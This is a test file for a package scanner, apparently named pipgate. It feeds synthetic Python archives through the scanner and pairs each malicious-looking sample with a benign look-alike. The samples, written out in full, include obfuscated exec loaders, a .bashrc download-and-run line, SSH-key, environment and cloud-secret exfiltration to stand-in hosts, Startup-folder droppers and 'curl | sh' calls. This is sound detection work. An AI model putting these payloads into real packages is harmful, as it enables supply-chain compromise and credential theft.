"""Behaviours rules 6 reads, on synthetic archives, each beside a look-alike that must pass:
a payload in a test module package code imports, obfuscation that runs what it builds,
names spelled in look-alike letters, a signing secret sent away, a download left where the
system runs it, a program handed a URL, a process started through a thread, a download run
as code from a file, modules imported by calling ``__import__``, a download saved as a program.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import base64

import pytest

from pipgate.policies.scan import ScanPolicy
from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge as _report

POLICY = ScanPolicy()


def _package(members: dict[str, str]) -> bytes:
    """An sdist with some code of its own (an empty one is held for being empty)."""
    code = "def version():\n    return '1.0'\n"
    return sdist({"PKG-INFO": pkg_info(), "demo/__init__.py": code, **members})


RC_PAYLOAD = """\
import os

def reset():
    rc = os.path.expanduser("~/.bashrc")
    with open(rc, "a") as handle:
        handle.write("wget https://files.example/tool -O /tmp/tool && chmod +x /tmp/tool && /tmp/tool &\\n")
"""


def test_a_test_module_package_code_imports_is_read_and_a_download_run_in_an_rc_file_is_held() -> (
    None
):
    rules, held = _report(
        sdist(
            {
                "PKG-INFO": pkg_info(),
                "demo/__init__.py": "from .setup_term import init\n",
                "demo/setup_term.py": "from .tests import helpers\n\ndef init():\n    helpers.reset()\n",
                "demo/tests/__init__.py": "",
                "demo/tests/helpers.py": RC_PAYLOAD,
            }
        ),
        "demo-1.0.tar.gz",
    )
    assert held
    assert rules["download-run"] == 10 and "persistence" in rules


def test_the_same_test_module_nothing_imports_is_not_judged() -> None:
    rules, held = _report(
        sdist(
            {
                "PKG-INFO": pkg_info(),
                "demo/__init__.py": "from .setup_term import init\n",
                "demo/setup_term.py": "def init():\n    return None\n",
                "demo/tests/__init__.py": "",
                "demo/tests/helpers.py": RC_PAYLOAD,
            }
        ),
        "demo-1.0.tar.gz",
    )
    assert not held and "download-run" not in rules


def test_a_shell_setup_tool_that_only_prints_the_install_command_is_advice() -> None:
    # Writes to ~/.bashrc (an alias), and shows a curl | sh line to the user: the command is
    # neither written nor run, so it weighs as advice.
    source = (
        "import os\n"
        'HELP = "install with: curl -fsSL https://get.example/install.sh | sh"\n'
        "def setup_alias():\n"
        '    with open(os.path.expanduser("~/.bashrc"), "a") as handle:\n'
        "        handle.write(\"alias ll='ls -l'\\n\")\n"
    )
    rules, held = _report(sdist({"PKG-INFO": pkg_info(), "demo/__init__.py": source}), "d-1.tgz")
    assert not held and rules["download-run"] == 4 and "persistence" in rules


HIDDEN_EXEC = """\
Calculate, System, _walk = exec, str, map
__obfuscator__ = "x"
blob = "{escapes}"
Calculate(System(blob))
"""


def test_obfuscated_import_time_code_that_renames_exec_is_held() -> None:
    escapes = "\\x41" * 300
    rules, held = _report(
        wheel({"demo/__init__.py": HIDDEN_EXEC.format(escapes=escapes)}),
        "demo-1.0-py3-none-any.whl",
    )
    assert held and rules["obfuscated"] == 10


def test_obfuscated_import_time_code_that_runs_nothing_stays_below_the_threshold() -> None:
    escapes = "\\x41" * 300
    source = f'TABLE = "{escapes}"\nSIZE = len(TABLE)\n'
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and rules["obfuscated"] == 8


def test_a_readable_module_that_renames_exec_is_not_obfuscated() -> None:
    source = "run = exec\n\ndef load(text):\n    run(compile(text, 'cfg', 'exec'))\n"
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and "obfuscated" not in rules


SPELLED_BUILTINS = """\
g = globals
_ = "".join
imp = getattr(g()[_([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])],
              _([chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]]))
mod = imp(_([chr(c) for c in [111, 115]]))
"""


def test_builtins_reached_through_renamed_globals_and_join_are_obfuscation_that_runs() -> None:
    rules, held = _report(
        wheel({"demo/__init__.py": SPELLED_BUILTINS}), "demo-1.0-py3-none-any.whl"
    )
    assert held and rules["obfuscated"] == 10


def test_a_renamed_exec_in_a_module_nothing_imports_is_still_read() -> None:
    # Triage passes such a module over unless it sees `exec` bound to another name.
    source = (
        "import base64\n"
        "def helper():\n"
        "    return 'cHJpbnQoMSk='\n"
        "def demo():\n"
        "    a = exec\n"
        "    a(base64.b64decode(helper()))\n"
        "demo()\n"
    )
    rules, held = _report(_package({"demo/tools/convert.py": source}), "demo-1.0.tar.gz")
    assert held and rules["decode-exec"] == 10


LOOKALIKE = (
    "import requests\n"
    "\U0001d602\U0001d633\U0001d62d = 'https://files.example/x'\n"
    "\U0001d633\U0001d626\U0001d634 = requests.get(\U0001d602\U0001d633\U0001d62d)\n"
    "\U0001d633\U0001d626\U0001d634.raise_for_status()\n"
    "\U0001d633\U0001d626\U0001d634.close()\n"
)


def test_names_spelled_in_look_alike_letters_are_obfuscation() -> None:
    rules, held = _report(wheel({"demo/__init__.py": LOOKALIKE}), "demo-1.0-py3-none-any.whl")
    assert held and rules["obfuscated"] == 8 and "import-network" in rules


def test_look_alike_letters_in_text_only_are_not_obfuscation() -> None:
    source = 'BOLD = {"a": "\U0001d41a", "b": "\U0001d41b", "c": "\U0001d41c", "d": "\U0001d41d"}\n'
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and "obfuscated" not in rules


SECRET_SENT = """\
import base64, requests

class Client:
    def __init__(self, access_key_id, access_key_secret):
        self.access_key_id = access_key_id
        self.access_key_secret = access_key_secret
        data = {{"ak": self.access_key_id, "secret": self.access_key_secret}}
        requests.post({url}, json=data)
"""


@pytest.mark.parametrize(
    "url",
    [
        '"https://collect.example/k"',
        "base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvaw==').decode()",
    ],
    ids=["literal", "decoded"],
)
def test_a_signing_secret_sent_to_an_address_the_code_carries_is_held(url: str) -> None:
    rules, held = _report(
        _package({"demo/client.py": SECRET_SENT.format(url=url)}),
        "demo-1.0.tar.gz",
    )
    assert held and rules["secret-exfil"] == 10


@pytest.mark.parametrize(
    "source",
    [
        # A client signing in to its own service with the key in a header.
        "import requests\n"
        "def call(secret_key):\n"
        '    return requests.post("https://api.example/v1/charge", headers={"Authorization": "Bearer " + secret_key})\n',
        # The key sent to an endpoint the caller names (a key-management API).
        "import requests\n"
        "def store(endpoint, secret_key):\n"
        '    return requests.post(endpoint, json={"secret_key": secret_key})\n',
    ],
    ids=["in a header", "to an address the caller names"],
)
def test_a_secret_key_in_a_header_or_to_a_named_endpoint_is_not_exfiltration(source: str) -> None:
    rules, held = _report(_package({"demo/client.py": source}), "demo-1.0.tar.gz")
    assert not held and "secret-exfil" not in rules


DOWNLOAD_INTO = """\
import os, requests

def init():
    folder = f"C:\\\\Users\\\\{{os.getlogin()}}\\\\AppData\\\\Roaming\\\\{place}"
    with open(folder + "\\\\helper.py", "wb") as handle:
        handle.write(requests.get("https://files.example/helper.py").content)
"""
STARTUP = "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"


def test_a_download_written_into_a_startup_folder_is_a_drop_that_runs_at_login() -> None:
    source = DOWNLOAD_INTO.format(place=STARTUP)
    rules, held = _report(_package({"demo/bot.py": source}), "demo-1.0.tar.gz")
    assert held and rules["drop-run"] == 10


def test_a_download_written_into_a_cache_folder_is_not_a_drop() -> None:
    source = DOWNLOAD_INTO.format(place="demo\\\\cache")
    rules, held = _report(_package({"demo/bot.py": source}), "demo-1.0.tar.gz")
    assert not held and "drop-run" not in rules


CURL_LIST = """\
import os, subprocess
from setuptools import setup
target = os.environ["TEMP"] + "\\\\update.exe"
tool = os.environ["WINDIR"] + "\\\\System32\\\\curl.exe"
subprocess.call([tool, "https://files.example/update", "-o", target])
subprocess.call([target])
setup(name="demo", version="1.0")
"""


def test_an_install_time_program_handed_a_url_then_a_program_run_is_a_download_run() -> None:
    rules, held = _report(_package({"setup.py": CURL_LIST}), "demo-1.0.tar.gz")
    assert held and rules["download-run"] == 10


def test_an_install_time_git_clone_is_not_a_download_run() -> None:
    source = (
        "import subprocess\nfrom setuptools import setup\n"
        'subprocess.call(["git", "clone", "https://git.example/vendor.git", "vendor"])\n'
        'setup(name="demo", version="1.0")\n'
    )
    rules, held = _report(_package({"setup.py": source}), "demo-1.0.tar.gz")
    assert not held and "download-run" not in rules


def test_a_process_started_through_a_thread_is_a_process_call() -> None:
    source = (
        "import os, threading\n"
        'threading.Thread(target=os.system, args=("curl -s https://x.example/p | sh",)).start()\n'
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["download-run"] == 10 and "import-process" in rules


def test_a_thread_running_a_function_of_the_package_is_not_a_process() -> None:
    source = (
        "import threading\n"
        "def work():\n    return 1\n"
        'threading.Thread(target=work, args=("curl -s https://x.example/p | sh",)).start()\n'
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and "import-process" not in rules


DOWNLOAD_THEN_EXEC_FILE = """\
import requests, tempfile

def load():
    text = requests.get("https://files.example/plugin").text
    with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as handle:
        handle.write(text)
        name = handle.name
    exec(open(name).read(), globals())

load()
"""


def test_importing_that_downloads_then_runs_a_file_as_code_is_held() -> None:
    rules, held = _report(
        wheel({"demo/__init__.py": DOWNLOAD_THEN_EXEC_FILE}), "demo-1.0-py3-none-any.whl"
    )
    assert held and rules["download-exec"] == 10


def test_setup_py_that_execs_its_version_file_is_not_a_download() -> None:
    source = (
        "from setuptools import setup\n"
        "about = {}\n"
        'exec(open("demo/version.py").read(), about)\n'
        'setup(name="demo", version=about["__version__"])\n'
    )
    rules, held = _report(_package({"setup.py": source}), "demo-1.0.tar.gz")
    assert not held and "download-exec" not in rules


def test_a_short_dropped_file_name_is_followed_to_the_process_that_runs_it() -> None:
    source = (
        "import os, requests\n"
        'with open("m.py", "wb") as handle:\n'
        '    handle.write(requests.get("https://files.example/m").content)\n'
        'os.system("py m.py")\n'
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["drop-run"] == 10


def test_modules_imported_by_calling_import_are_followed_as_imports() -> None:
    source = (
        "def collect():\n"
        "    os = __import__('os')\n"
        "    req = __import__('urllib.request')\n"
        "    key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
        "    req.request.urlopen(req.request.Request('https://collect.example/k', data=key))\n"
        "collect()\n"
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["credential-exfil"] == 10 and "import-network" in rules


def test_a_credential_store_read_beside_a_file_drop_client_is_sent_out() -> None:
    source = (
        "import os, dropbox\n"
        "def grab():\n"
        "    path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
        "    client = dropbox.Dropbox('token')\n"
        "    for name in os.listdir(path):\n"
        "        client.files_upload(open(os.path.join(path, name), 'rb').read(), '/' + name)\n"
    )
    rules, _ = _report(_package({"demo/grab.py": source}), "demo-1.0.tar.gz")
    assert "credential-exfil" in rules


def test_a_download_into_a_startup_folder_named_through_other_names_is_a_drop() -> None:
    source = (
        "import os, requests\n"
        "def fetch(url, name):\n"
        "    folder = os.path.expanduser('~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\"
        "Start Menu\\\\Programs\\\\Startup')\n"
        "    target = os.path.join(folder, name)\n"
        "    with open(target, 'wb') as handle:\n"
        "        handle.write(requests.get(url).content)\n"
    )
    rules, held = _report(_package({"demo/fetch.py": source}), "demo-1.0.tar.gz")
    assert held and rules["drop-run"] == 10


SAVE_PROGRAM = """\
import requests
{indent}data = requests.get("https://files.example/tool").content
{indent}with open("tool.exe", "wb") as handle:
{indent}    handle.write(data)
"""


def test_importing_that_saves_a_downloaded_program_is_a_drop() -> None:
    source = SAVE_PROGRAM.format(indent="")
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["drop-run"] == 10


def test_a_function_that_downloads_a_program_when_called_is_not_a_drop() -> None:
    source = "def fetch_tool():\n" + SAVE_PROGRAM.format(indent="    ").replace(
        "import requests\n", "    import requests\n"
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and "drop-run" not in rules


def test_the_environment_sent_to_a_tunnel_from_a_console_script_is_theft() -> None:
    source = (
        "import os, requests\n"
        "def run():\n"
        "    requests.post('https://abc123.ngrok.app/c', json=dict(os.environ))\n"
    )
    archive = sdist(
        {
            "PKG-INFO": pkg_info(),
            "demo/__init__.py": "",
            "demo/cli.py": source,
            "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:run\n",
        }
    )
    rules, held = _report(archive, "demo-1.0.tar.gz")
    assert held and rules["credential-exfil"] == 10


@pytest.mark.parametrize(
    ("address", "theft"),
    [
        ("'https://collect.example/e/' + data", True),
        ("endpoint", False),  # an address the caller names (a CI reporter, configured)
    ],
    ids=["to a literal host", "to an address the caller names"],
)
def test_the_whole_environment_sent_to_an_address_the_code_carries_is_theft(
    address: str, theft: bool
) -> None:
    source = (
        "import base64, json, os, requests\n"
        "def report(endpoint):\n"
        "    data = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\n"
        f"    requests.get({address}, params={{'d': data}})\n"
    )
    rules, _ = _report(
        sdist({"PKG-INFO": pkg_info(), "demo/__init__.py": source}), "demo-1.0.tar.gz"
    )
    assert (rules["credential-exfil"] == 10) is theft


COLLECT = """\
import os, shutil
def collect():
    home = os.path.expanduser("~")
    shutil.copyfile(home + "/.bash_history", "/tmp/c/history")
    shutil.copytree(home + "/.ssh", "/tmp/c/ssh")
    {send}
"""


def test_credential_stores_uploaded_whole_by_a_command_are_held_in_any_module() -> None:
    send = 'os.system("curl -k -F file=@/tmp/c.zip https://collect.example/upload")'
    rules, held = _report(_package({"demo/sync.py": COLLECT.format(send=send)}), "demo-1.0.tar.gz")
    # (a small package: its modules weigh in full, rules 22)
    assert held and rules["credential-exfil"] == 8


def test_credential_stores_beside_ordinary_network_use_keep_their_weight() -> None:
    send = 'import requests; requests.get("https://api.example/v1/status")'
    # (in __init__.py, which is always read: the same weight as the read itself)
    archive = sdist({"PKG-INFO": pkg_info(), "demo/__init__.py": COLLECT.format(send=send)})
    rules, held = _report(archive, "demo-1.0.tar.gz")
    assert not held and rules["credential-exfil"] == rules["credential-read"] < 8


def test_a_cloud_secret_from_the_environment_sent_in_a_url_to_a_literal_host_is_held() -> None:
    source = (
        "import os, requests\n"
        "def report():\n"
        "    secret = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
        "    requests.get('https://collect.example/k/' + secret)\n"
    )
    rules, held = _report(_package({"demo/report.py": source}), "demo-1.0.tar.gz")
    assert held and rules["secret-exfil"] == 10


def test_a_secret_from_the_environment_as_a_bearer_token_is_how_a_client_signs_in() -> None:
    source = (
        "import os, requests\n"
        "def charge():\n"
        "    key = os.environ['SERVICE_SECRET_KEY']\n"
        "    requests.post('https://api.example/v1/charge', headers={'Authorization': 'Bearer ' + key})\n"
    )
    rules, held = _report(_package({"demo/pay.py": source}), "demo-1.0.tar.gz")
    assert not held and "secret-exfil" not in rules


def test_a_request_catcher_the_code_reaches_is_held() -> None:
    source = (
        "import requests\n"
        "def notify():\n"
        "    requests.post('https://abc123.oastify.com', json={'m': 'installed'})\n"
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["exfil-sink"] == 10


def test_a_request_catcher_only_named_is_a_sink_below_the_threshold() -> None:
    source = "EXAMPLES = ['https://abc123.oastify.com', 'https://webhook.site/x']\n"
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and rules["exfil-sink"] == 7


def test_a_url_hidden_in_base64_is_held_whether_a_bare_address_or_a_name() -> None:
    # Rules 6 weighed a named one 6 and a bare address 8; rules 45 hold both (no legitimate
    # file of the wider sample hides a URL it requests).
    hidden = (
        "import base64, requests\n"
        "def send(data):\n"
        "    requests.post(base64.b64decode({url!r}).decode(), data=data)\n"
    )
    bare = hidden.format(
        url="aHR0cDovLzIwMy4wLjExMy45OjUwMDAvcG9zdA=="
    )  # http://203.0.113.9:5000/post
    named = hidden.format(url="aHR0cHM6Ly9hcGkuZXhhbXBsZS9wb3N0")  # https://api.example/post
    bare_rules, _ = _report(wheel({"demo/__init__.py": bare}), "demo-1.0-py3-none-any.whl")
    named_rules, named_held = _report(
        wheel({"demo/__init__.py": named}), "demo-1.0-py3-none-any.whl"
    )
    assert bare_rules["hidden-url"] == 10 and named_rules["hidden-url"] == 10
    assert named_held


BOT = """\
import os, telebot
from setuptools import setup
setup(name="demo", version="1.0")
bot = telebot.TeleBot("{token}")
bot.send_message("{chat}", str(os.listdir(os.path.expanduser("~"))))
"""


def test_install_time_code_that_sends_host_facts_through_a_chat_bot_is_held() -> None:
    source = BOT.format(token="1234567890:AA" + "x" * 33, chat="42")
    rules, held = _report(_package({"setup.py": source}), "demo-1.0.tar.gz")
    assert held and rules["phone-home"] == 10 and "exfil-sink" in rules


def test_a_number_and_colon_that_is_not_a_bot_token_is_not_a_sink() -> None:
    source = 'RATIO = "1234567890:AAbb"\nMAC = "00:aa:bb:cc:dd:ee"\n'
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and "exfil-sink" not in rules


def test_obfuscated_code_that_imports_a_module_named_in_escapes_is_held() -> None:
    escapes = "\\x41" * 300
    source = f"z = __import__('\\x7a\\x6c\\x69\\x62')\nBLOB = \"{escapes}\"\n"
    plain = f"z = __import__('zlib')\nBLOB = \"{escapes}\"\n"
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    plain_rules, plain_held = _report(
        wheel({"demo/__init__.py": plain}), "demo-1.0-py3-none-any.whl"
    )
    assert held and rules["obfuscated"] == 10
    assert not plain_held and plain_rules["obfuscated"] == 8


def test_a_test_module_imported_only_inside_a_function_is_not_read() -> None:
    # `def test(): from .tests import run` runs when a developer calls it, not on import.
    rules, held = _report(
        sdist(
            {
                "PKG-INFO": pkg_info(),
                "demo/__init__.py": "def selftest():\n    from .tests import helpers\n    helpers.reset()\n",
                "demo/tests/__init__.py": "",
                "demo/tests/helpers.py": RC_PAYLOAD,
            }
        ),
        "demo-1.0.tar.gz",
    )
    assert not held and "download-run" not in rules


PLANT = """\
import os, threading, requests

def init():
    code = requests.get("https://files.example/plugin").text
    path = os.path.expanduser("~") + "/.local/lib/python3.11/site-packages/helper"
    os.makedirs(path, exist_ok=True)
    with open(path + "/__init__.py", "w") as handle:
        handle.write(code)

{start}
"""


def test_a_thread_started_on_import_that_plants_a_download_in_site_packages_is_held() -> None:
    source = PLANT.format(start="threading.Thread(target=init).start()")
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["drop-run"] == 10 and "import-network" in rules


def test_a_thread_started_only_when_called_is_not_import_time_network() -> None:
    source = "import threading, requests\n\ndef check():\n    requests.get('https://api.example/v')\n\ndef start():\n    threading.Thread(target=check).start()\n"
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and "import-network" not in rules


def _program_header(second: bytes) -> str:
    """The base64 of a made-up Windows program header: ``MZ``, two bytes, ``PE`` at 0x80."""
    header = bytearray(b"MZ" + second + bytes(0x3C - 4))
    header += (0x80).to_bytes(4, "little") + bytes(0x80 - 0x40) + b"PE\x00\x00" + bytes(64)
    return base64.b64encode(bytes(header) * 8).decode()


def test_a_program_whose_header_starts_unusually_is_still_an_embedded_program() -> None:
    source = (
        "import base64, os, subprocess\nfrom setuptools import setup\n"
        f"BLOB = {_program_header(b'x' + bytes(1))!r}\n"
        "with open('helper.exe', 'wb') as handle:\n"
        "    handle.write(base64.b64decode(BLOB))\n"
        "subprocess.Popen(['helper.exe'])\n"
        'setup(name="demo", version="1.0")\n'
    )
    rules, held = _report(_package({"setup.py": source}), "demo-1.0.tar.gz")
    assert held and "embedded-executable" in rules and rules["drop-run"] == 10


def test_base64_text_that_starts_with_mz_is_not_a_program() -> None:
    text = base64.b64encode(b"MZ markers, zones and other words " * 40).decode()
    rules, held = _report(
        wheel({"demo/__init__.py": f"DATA = {text!r}\n"}), "demo-1.0-py3-none-any.whl"
    )
    assert not held and "embedded-executable" not in rules


def test_a_code_running_builtin_spelled_as_character_codes_is_obfuscation_that_runs() -> None:
    # `__builtins__` and `exec` spelled as codes, looked up with .get: no getattr anywhere.
    source = (
        "_ = ''.join\n"
        "b = globals()[_([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])]\n"
        "run = b.get(_([chr(c) for c in [101, 120, 101, 99]]))\n"
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["obfuscated"] == 10


def test_other_words_spelled_as_character_codes_are_obfuscation_below_the_threshold() -> None:
    source = (
        "_ = ''.join\n"
        "a = _([chr(c) for c in [104, 101, 108, 108, 111]])\n"
        "b = _([chr(c) for c in [119, 111, 114, 108, 100]])\n"
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and rules["obfuscated"] == 8


def test_a_program_written_a_line_at_a_time_is_read_as_code() -> None:
    source = (
        "import subprocess\n"
        "def check():\n"
        "    with open('/tmp/job.py', 'w') as f:\n"
        "        f.write('import subprocess\\n')\n"
        "        f.write('from urllib import request\\n')\n"
        "        f.write('target = HOME + \"/job.sh\"\\n')\n"
        "        f.write('request.urlretrieve(\"https://files.example/j\", target)\\n')\n"
        "        f.write('subprocess.call(\"bash ~/job.sh\", shell=True)\\n')\n"
        "    subprocess.call('python3 /tmp/job.py &', shell=True)\n"
    )
    rules, held = _report(_package({"demo/job.py": source}), "demo-1.0.tar.gz")
    assert held and rules["drop-run"] == 10


def test_a_config_file_written_a_line_at_a_time_is_not_code() -> None:
    source = (
        "import subprocess\n"
        "def configure():\n"
        "    with open('setup.cfg', 'w') as f:\n"
        "        f.write('[metadata]\\n')\n"
        "        f.write('name = demo\\n')\n"
        "        f.write('url = https://files.example/demo\\n')\n"
        "    subprocess.call(['python', '-m', 'build'])\n"
    )
    rules, held = _report(_package({"demo/cfg.py": source}), "demo-1.0.tar.gz")
    assert not held and "drop-run" not in rules


HOOK_URL = "https://discord.com/api/webhooks/123456789012345678/" + "a1B2c3D4e5" * 7


def test_a_webhook_whose_token_the_code_carries_and_sends_to_is_held() -> None:
    source = (
        "import requests\n"
        "def notify(text):\n"
        f"    requests.post({HOOK_URL!r}, json={{'content': text}})\n"
    )
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert held and rules["exfil-sink"] == 10


@pytest.mark.parametrize(
    "source",
    [
        # The user's own webhook, from configuration: a notifier library.
        "import os, requests\n"
        "def notify(text):\n"
        "    requests.post(os.environ['DISCORD_WEBHOOK_URL'], json={'content': text})\n"
        "API = 'https://discord.com/api/webhooks/'\n",
        # A webhook written in, but nothing here sends to it.
        f"EXAMPLE = {HOOK_URL!r}\n",
        # A placeholder in a help text, beside network use.
        "import requests\n"
        "HELP = 'e.g. https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'\n"
        "def ping(url):\n    requests.get(url)\n",
    ],
    ids=["configured", "not sent to", "placeholder"],
)
def test_a_webhook_without_credentials_or_without_a_send_is_not_held(source: str) -> None:
    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert not held and rules.get("exfil-sink", 0) < 10
